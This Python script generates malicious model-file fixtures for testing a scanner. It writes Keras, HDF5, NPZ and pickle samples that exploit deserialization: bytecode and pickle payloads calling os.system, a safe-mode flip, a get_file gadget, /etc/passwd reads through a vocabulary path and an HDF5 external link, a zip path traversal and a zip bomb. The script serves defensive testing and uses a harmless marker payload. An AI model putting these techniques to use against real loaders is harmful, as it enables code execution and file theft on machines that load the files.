"""Malicious Keras samples for `strata scan` / `strata doctor` tests: fixtures/malicious/.

Run from the repository root with the oracle venv's Python (CPython 3.11, needs h5py):
  ~/.cache/strata/oracle/venv/bin/python tools/doctor/gen_malicious.py
Each sample carries at most a harmless payload: `os.system("echo pwned > strata_pwned_marker")`.
Nothing here runs, imports or unpickles a payload: bytecode is compiled (`compile`, never called)
and marshaled, pickles are written opcode by opcode. Tests assert that scanning creates no
`strata_pwned_marker`. The base model is fixtures/doctor/lambda/keras3_native.{keras,h5}
(tools/doctor/gen_lambda_files.sh): Input(4) -> Lambda `lam` -> Dense(2).
"""
import codecs, copy, json, marshal, os, shutil, struct, zipfile, zlib

OUT = "fixtures/malicious"
BASE = "fixtures/doctor/lambda/keras3_native"
PAYLOAD = 'lambda x: __import__("os").system("echo pwned > strata_pwned_marker") or x'
FIXED_DATE = (2026, 1, 1, 0, 0, 0)


def payload_b64():
    module = compile(PAYLOAD, "payload.py", "eval")  # compiled, never evaluated
    code = [c for c in module.co_consts if hasattr(c, "co_code")][0]
    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


def base_members():
    with zipfile.ZipFile(BASE + ".keras") as z:
        return {n: z.read(n) for n in z.namelist()}


def write_zip(path, members):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, FIXED_DATE)
            z.writestr(info, data)


def keras_with(path, edit, extra=()):
    m = base_members()
    cfg = json.loads(m["config.json"])
    edit(cfg)
    members = [("metadata.json", m["metadata.json"]), ("config.json", json.dumps(cfg).encode()),
               ("model.weights.h5", m["model.weights.h5"])]
    write_zip(path, members + list(extra))


def drop_lambda(cfg):
    cfg["config"]["layers"] = [l for l in cfg["config"]["layers"] if l["class_name"] != "Lambda"]


def lam(cfg):
    return [l for l in cfg["config"]["layers"] if l["class_name"] == "Lambda" and l["config"]["name"] == "lam"][0]


def os_system(cfg):
    lam(cfg)["config"]["function"]["config"]["code"] = payload_b64()


def module_outside(cfg):
    # CVE-2025-1550 class: a layer entry whose module is not Keras's.
    drop_lambda(cfg)
    cfg["config"]["layers"].insert(1, {"module": "os", "class_name": "system", "registered_name": "system",
                                       "config": {"name": "evil", "command": "echo pwned > strata_pwned_marker"}})


def get_file(cfg):
    # CVE-2025-8747 class: a Lambda whose function is a reference to keras.utils.get_file.
    l = lam(cfg)
    l["config"]["function"] = {"module": "keras.utils", "class_name": "function", "config": "get_file",
                               "registered_name": "get_file"}
    l["config"]["arguments"] = {"fname": "strata_pwned_marker", "origin": "http://127.0.0.1:9/pwned",
                                "cache_dir": "."}


def safe_mode_flip(cfg):
    # CVE-2025-9906 class: first turn safe mode off, then a bytecode Lambda.
    layers = cfg["config"]["layers"]
    flip = copy.deepcopy(lam(cfg))
    flip["config"]["name"] = flip["name"] = "flip"
    flip["config"]["function"] = {"module": "keras.config", "class_name": "function",
                                  "config": "enable_unsafe_deserialization",
                                  "registered_name": "enable_unsafe_deserialization"}
    layers.insert(1, flip)
    os_system(cfg)


def tfsm(cfg):
    drop_lambda(cfg)
    layers = cfg["config"]["layers"]
    layers.insert(1, {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
                      "config": {"name": "tfsm", "filepath": "/tmp/attacker_saved_model", "call_endpoint": "serve"}})


def vocab(cfg):
    drop_lambda(cfg)
    layers = cfg["config"]["layers"]
    layers.insert(1, {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
                      "config": {"name": "lookup", "vocabulary": "/etc/passwd", "max_tokens": None}})


def pickle_bytes():
    """posix.system('echo pwned > strata_pwned_marker'), protocol 4, written opcode by opcode."""
    def s(t):
        b = t.encode()
        return b"\x8c" + bytes([len(b)]) + b
    body = b"\x80\x04" + s("posix") + s("system") + b"\x93" + s("echo pwned > strata_pwned_marker") + b"\x85R."
    return body


def npy_object(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = 64 - (10 + len(header) + 1) % 64
    header = header + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def npz_pickle(path):
    import io
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(zipfile.ZipInfo("arr_0.npy", FIXED_DATE), npy_object(pickle_bytes()))
    m = base_members()
    cfg = json.loads(m["config.json"])
    drop_lambda(cfg)
    write_zip(path, [("metadata.json", m["metadata.json"]), ("config.json", json.dumps(cfg).encode()),
                     ("model.weights.npz", buf.getvalue())])


def path_traversal(path):
    m = base_members()
    write_zip(path, [(n, d) for n, d in m.items()] + [("../../strata_pwned_marker", b"pwned\n")])


def zip_bomb(path):
    """model.weights.h5 deflated from 1 MiB of zeros but declared as 1 GiB (sizes patched)."""
    m = base_members()
    raw = bytes(1 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = comp.compress(raw) + comp.flush()
    declared = 1 << 30
    out = bytearray()
    central = bytearray()
    entries = [("metadata.json", m["metadata.json"], 0), ("config.json", m["config.json"], 0),
               ("model.weights.h5", data, 8)]
    for name, blob, method in entries:
        nb = name.encode()
        size = declared if method == 8 else len(blob)
        crc = zlib.crc32(raw if method == 8 else blob)
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(blob), size, len(nb), 0)
        out += nb + blob
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(blob), size,
                               len(nb), 0, 0, 0, 0, 0, off) + nb
    cd_off = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_off, 0)
    with open(path, "wb") as f:
        f.write(bytes(out))


def h5_os_system(path):
    import h5py
    shutil.copy(BASE + ".h5", path)
    with h5py.File(path, "r+") as f:
        cfg = json.loads(f.attrs["model_config"])
        lam(cfg)["config"]["function"]["config"]["code"] = payload_b64()
        f.attrs["model_config"] = json.dumps(cfg).encode()


def h5_external_link(path):
    import h5py
    shutil.copy(BASE + ".h5", path)
    with h5py.File(path, "r+") as f:
        cfg = json.loads(f.attrs["model_config"])
        drop_lambda(cfg)
        f.attrs["model_config"] = json.dumps(cfg).encode()
        f["model_weights"]["leak"] = h5py.ExternalLink("/etc/passwd", "/")


def main():
    os.makedirs(OUT, exist_ok=True)
    keras_with(f"{OUT}/lambda_os_system.keras", os_system)
    keras_with(f"{OUT}/module_outside_keras.keras", module_outside)
    keras_with(f"{OUT}/get_file_gadget.keras", get_file)
    keras_with(f"{OUT}/safe_mode_flip.keras", safe_mode_flip)
    keras_with(f"{OUT}/tfsm_layer.keras", tfsm)
    keras_with(f"{OUT}/vocabulary_path.keras", vocab)
    npz_pickle(f"{OUT}/npz_pickle.keras")
    path_traversal(f"{OUT}/path_traversal.keras")
    zip_bomb(f"{OUT}/zip_bomb.keras")
    with open(f"{OUT}/pickle_os_system.pkl", "wb") as f:
        f.write(pickle_bytes())
    h5_os_system(f"{OUT}/lambda_os_system.h5")
    h5_external_link(f"{OUT}/hdf5_external_link.h5")


if __name__ == "__main__":
    main()
